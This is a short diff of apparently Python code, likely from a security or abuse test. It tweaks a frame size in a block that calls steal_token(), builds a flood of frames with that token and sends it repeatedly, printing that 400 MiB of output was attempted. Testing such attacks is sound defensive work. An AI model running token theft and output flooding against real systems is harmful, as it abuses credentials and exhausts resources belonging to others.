@@ -7,7 +7,7 @@
 
 try:
     token = steal_token()
-    flood = frame(token, 3, b"F" * 65_000) * 64
+    flood = frame(token, 3, b"F" * 64_000) * 64
     for _ in range(100):
         send_raw(flood)
     print("ATTEMPTED 400 MiB of output")
